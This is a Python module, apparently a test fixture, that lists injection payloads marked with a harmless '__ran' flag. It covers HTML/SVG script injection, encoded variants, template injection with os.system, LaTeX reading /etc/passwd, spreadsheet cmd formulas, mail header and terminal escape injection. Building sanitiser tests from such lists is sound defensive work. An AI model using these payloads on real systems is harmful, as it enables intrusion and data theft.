"""What people may type that programs take for more than text; written anew, each with its mark.

`__ran` is the mark: whatever runs sets it, or asks for an address that holds it. No test in here.
"""

RUN = "window.__ran=1"
ASK = "/__ran"

HTML = (
    f"<script>{RUN}</script>",
    f"<ScRiPt\t>{RUN}</sCrIpT\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</textarea></title></style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<script src={ASK}.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x:x onerror\n=\n'{RUN}'//",
    f'"><img src=/ onerror="{RUN}">',
    f"'><img src=/ onerror='{RUN}'>",
    f"` ><img src=/ onerror=`{RUN}`>",
    f"<img/src='{ASK}.png'/onload={RUN}>",
    f"<image href=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option>x",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<div style='animation:x 1s' onanimationstart={RUN}>x</div>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    f"<embed src='{ASK}.swf'>",
    f"<base href='{ASK}/'>",
    f"<meta http-equiv=refresh content='0;url={ASK}'>",
    f"<link rel=stylesheet href='{ASK}.css'>",
    f"<form action='{ASK}'><button>go</button></form>",
    f"<button formaction='javascript:{RUN}'>go</button>",
    f"<a href='javascript:{RUN}'>go</a>",
    f"<a href='java\tscript:{RUN}'>go</a>",
    f"<a href='&#106;avascript&colon;{RUN}'>go</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>go</a>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<table background='{ASK}.png'><td>x",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<dialog open onclose={RUN}>x</dialog>",
    f"<p popover id=p onbeforetoggle={RUN}>x</p>",
)
VECTORS = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>go</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to='javascript:{RUN}'>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'>",
    f"<math href='javascript:{RUN}'>go</math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math><maction actiontype='statusline#javascript:{RUN}'>go</maction></math>",
)
ENTITIES = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={RUN}\\x3e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<\ufeffscript>{RUN}</script>",
    f"<img src=x on\u200berror={RUN}>",
)
LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt&colon;{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==#{RUN}",
    f"//127.0.0.1{ASK}",
)
STYLE = (
    f"</style><style>*{{background:url({ASK}.png)}}</style>",
    f"x;background:url({ASK}.png)",
    f"x:expression({RUN})",
    f"@import '{ASK}.css';",
)
TEMPLATES = (
    f"{{{{ 7*7 }}}}{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"{{% raw %}}{{% endraw %}}{{{{ cycler.__init__.__globals__.os.system('{ASK}') }}}}",
    f"<%= 7*7 %>#{{7*7}}*{{7*7}}{RUN}",
    "{0.__class__.__mro__}{member.__init__.__globals__}%(name)s%n%s",
    "__proto__",
    "constructor",
    f"');{RUN};//",
    f'"}}]}};{RUN};//</script><script>{RUN}</script>',
    f'{{"__proto__": {{"innerHTML": "<img src=x onerror={RUN}>"}}}}',
)
MARKDOWN = (
    f"[go](javascript:{RUN})",
    f"![x]({ASK}.png)",
    f"# head\n\n<img src=x onerror={RUN}>\n\n---\n> quoted",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | **b** |",
    f"[x]: javascript:{RUN}\n[x]",
    f"```{{raw}} html\n<script>{RUN}</script>\n```",
    f"<javascript:{RUN}>",
)
LATEX = (
    f"$\\href{{javascript:{RUN}}}{{go}}$",
    f"$$\\unicode{{<img src=x onerror={RUN}>}}$$",
    f"\\(\\class{{x' onmouseover='{RUN}}}{{x}}\\)",
    f"\\[\\require{{html}}\\style{{background:url({ASK}.png)}}{{x}}\\]",
    f"\\begin{{align}}\\text{{<script>{RUN}</script>}}\\end{{align}}",
    f"$\\input{{/etc/passwd}} \\def\\x{{\\x\\x}}\\x {RUN}$",
)
TURNED = (
    f"\u202e<script>{RUN}</script>",
    f"\u2066\u2067=1+1\u2069{RUN}",
    f"Ann\u200b\u200d\ufeff<img src=x onerror={RUN}>",
    f'\ufeff=HYPERLINK("{ASK}")',
    f"Z\u0351\u036b\u0343a\u0363\u0369lgo {RUN}",
)
FORMULAS = (
    f'=HYPERLINK("http://127.0.0.1{ASK}","go")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    " =1+1",
    "\u00a0=1+1",
    "\u3000\t=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n@SUM(1)",
    f"=cmd|'/C {ASK}'!A0",
    "+cmd|' /C x'!A0",
    '"=1+1"',
    "'=1+1",
    '","=1+1',
    '"\n=1+1,"',
    'a",=1+1\r\n=2+2,"',
    "{=1+1}",
    "=\u200b1+1",
    "\u200b=1+1",
    "\u202a=1+1",
    "%0A=1+1",
)
MAIL = (
    "x?bcc=eve@example.org",
    "x%0d%0aBcc: eve@example.org",
    "x\r\nBcc: eve@example.org\r\n\r\nHello",
    "x&body=forged&subject=forged#x",
)
TERMINAL = (
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31mred",
    "a\x08\x08b\x00c",
    "\x1b]8;;http://127.0.0.1\x07go",
)
LARGE = (
    "<b>" * 3000 + RUN,
    "A\u0301" * 5000 + RUN,
    "[" * 2000 + f"<img src=x onerror={RUN}>",
)

ALL = (
    *HTML,
    *VECTORS,
    *ENTITIES,
    *LINKS,
    *STYLE,
    *TEMPLATES,
    *MARKDOWN,
    *LATEX,
    *TURNED,
    *FORMULAS,
    *MAIL,
    *TERMINAL,
    *LARGE,
)
